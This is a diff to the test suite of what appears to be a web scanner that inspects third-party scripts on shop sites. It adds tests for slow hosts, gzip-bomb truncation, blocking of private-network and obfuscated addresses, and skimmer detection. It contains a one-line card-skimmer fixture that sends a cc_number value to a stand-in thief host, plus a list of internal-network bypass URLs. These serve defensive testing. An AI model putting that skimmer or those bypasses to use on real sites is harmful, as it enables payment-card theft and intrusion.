@@ -22,12 +22,16 @@ from scanner.gatherers import foreign_hosts, loaded_files
 from scanner.gatherers.dns import Dns
 from scanner.gatherers.fetcher import Fetcher
 from scanner.gatherers.foreign_hosts import ForeignHosts
-from scanner.gatherers.html import style_loads
+from scanner.gatherers.html import extract, style_loads
 from scanner.gatherers.network import NoSuchName, Paces
 from scanner.recording import decode, encode, known_classes
+from scanner.scan import Order, scan
+from scanner.settings import ScanOptions
 from scanner.target import Target
 from scanner.testing import HOST, NOW, ORIGIN, page, pages
+from scanner.verdicts import Found, Passed
 from tests.loopback import request_head, response, serving
+from tests.scanning import CLOSED, catalogue, no_names
 
 CDN = "cdn.library.example"
 BODY = b"function library() { return 1 }\n" * 50
@@ -193,6 +197,36 @@ async def test_a_host_that_never_answers_ends_with_the_scan() -> None:
     assert [(one.address, one.examined) for one in found.unread] == [(f"http://{CDN}/a.js", False)]
 
 
+async def test_slow_hosts_take_no_connection_from_the_shop() -> None:
+    """Eight files that never come, and the shop's own page beside them."""
+
+    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        head = await reader.readuntil(b"\r\n\r\n")
+        if f"host: {HOST}\r\n".encode() in head.lower():
+            writer.write(response(b"the shop"))
+            await writer.drain()
+        await reader.read()
+
+    async with serving(handle) as port:
+        target = shop(1, CDN, http=port)
+        async with tools(target) as (fetcher, foreign):
+            slow = [asyncio.create_task(foreign.get(f"http://{CDN}/{number}.js")) for number in range(8)]
+            await asyncio.sleep(0.2)
+            assert (await fetcher.get(f"http://{HOST}/", "pages", seconds=2)).text == "the shop"
+            fetcher.stop()
+            await asyncio.gather(*slow, return_exceptions=True)
+
+
+async def test_a_bomb_is_cut() -> None:
+    bomb = gzip.compress(b" " * 50_000_000)
+    server = Server({"/a.js": response(bomb, headers="Content-Encoding: gzip\r\n" + SHARED)})
+    async with serving(server.handle) as port:
+        found = await gather(shop(1, CDN, http=port), pages(loading(f"http://{CDN}/a.js")))
+    (file,) = found.files
+    assert len(file.text) <= 100_001
+    assert file.digests == ()
+
+
 @pytest.mark.parametrize("address", ["127.0.0.1", "10.0.0.1", "192.168.1.1", "169.254.169.254", "::1", "fe80::1", "::ffff:127.0.0.1", "0.0.0.0"])  # fmt: skip
 async def test_a_page_cannot_send_us_into_a_private_network(address: str) -> None:
     server = Server({"/a.js": response(BODY)})
@@ -206,6 +240,32 @@ async def test_a_page_cannot_send_us_into_a_private_network(address: str) -> Non
     assert server.heads == []
     assert found.files == ()
     assert all(one.examined for one in found.unread)
+
+
+STRANGE = (
+    "http://user:secret@cdn.library.example/a.js", "http://[::1]/a.js", "http://[::ffff:127.0.0.1]:80/a.js", "http://0x7f000001/a.js",
+    "http://127.1/a.js", "http://2130706433/a.js", "http://localhost/a.js", "http://cdn/a.js", "http://cdn.library.example./a.js",
+    "http://" + "a" * 63 + ".example/a.js", "http://" + "a." * 120 + "example/a.js", "https://xn--bcher-kva.example/a.js",
+    "http://cdn.library.example:0/a.js", "http://under_score.example/a.js", "http://[broken/a.js", "http:///a.js", "nonsense",
+)  # fmt: skip
+
+
+async def test_strange_addresses_lead_nowhere() -> None:
+    from scanner.gatherers.script_hosts import script_hosts
+
+    server = Server({"/a.js": response(BODY)})
+    written = "".join(f'<script src="{address}"></script>' for address in STRANGE)
+    crawl = pages(extract(f"<title>Shop</title>{written}", f"{ORIGIN}/", 200, ()))
+    assert len(crawl.home.scripts) > 10
+    async with serving(server.handle) as port:
+        target = Target.of(f"{ORIGIN}/", ports={"http": port, "https": port})
+        async with tools(target, resolve=lambda _host: ("127.0.0.1",)) as (fetcher, foreign):
+            found = await loaded_files.loaded_files(fetcher, foreign, target, crawl, StoppedClock(NOW))
+            hosts = await script_hosts(foreign, target, crawl, StoppedClock(NOW))
+    assert (found.files, server.heads) == ((), [])
+    assert all(one.examined for one in found.unread)
+    assert not any("secret" in text for one in found.unread for text in (one.address, one.because))
+    assert all(not one.domain or one.domain.endswith("example") for one in hosts.hosts)
 
 
 async def test_only_ports_that_carry_web_sites() -> None:
@@ -285,3 +345,48 @@ def test_what_a_style_loads(style: str, loads: Sequence[tuple[str, str]]) -> Non
 )
 def test_a_hostile_style_is_bounded(nasty: str) -> None:
     assert len(style_loads(nasty, "https://cdn.example/")) <= 2_000
+
+
+THIEF = "var n=document.getElementById('cc_number').value;new Image().src='https://stats.thief.example/i.gif?'+btoa(n)"
+
+
+@pytest.mark.parametrize(
+    ("answer", "found"),
+    [
+        (response(BODY + THIEF.encode(), headers=SHARED), True),
+        (response(BODY, headers=SHARED), False),
+        (response(b"", "503 Service Unavailable"), False),
+    ],
+)
+async def test_a_whole_scan_reads_others_scripts(answer: bytes, found: bool) -> None:
+    home = f'<title>Shop</title><a href="/roses">Roses</a><script src="http://{CDN}/w.js"></script>'.encode()
+    html = "Content-Type: text/html\r\n"
+
+    async def handle(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        while True:
+            head = (await request_head(reader)).decode().lower()
+            if f"host: {CDN}" in head:
+                writer.write(answer)
+            elif head.startswith("get / "):
+                writer.write(response(home, headers=html))
+            else:
+                writer.write(
+                    response(b"<title>Roses</title>", headers=html) if "/roses" in head else response(b"", "404 Not Found")
+                )
+            await writer.drain()
+
+    async with serving(handle) as port:
+        target = Target.of(
+            f"http://{HOST}/",
+            ports={**CLOSED, "http": port},
+            resolve=dict.fromkeys((HOST, CDN), ("127.0.0.1",)),
+            allow_private=True,
+        )
+        loaded = catalogue()
+        order = Order(target, loaded.chosen(["skimmer-indicator"]), ScanOptions(rate=1000))
+        result = (await scan(order, loaded, resolve=no_names)).result
+    (judged,) = result.judged
+    assert isinstance(judged.verdict, Found if found else Passed)
+    assert [one.finding.subject for one in result.findings] == ([f"http://{CDN}/w.js"] if found else [])
+    # What could not be read this time is not called fixed: its page does not count as examined.
+    assert ("/" in judged.verdict.examined) is (b"503" not in answer)
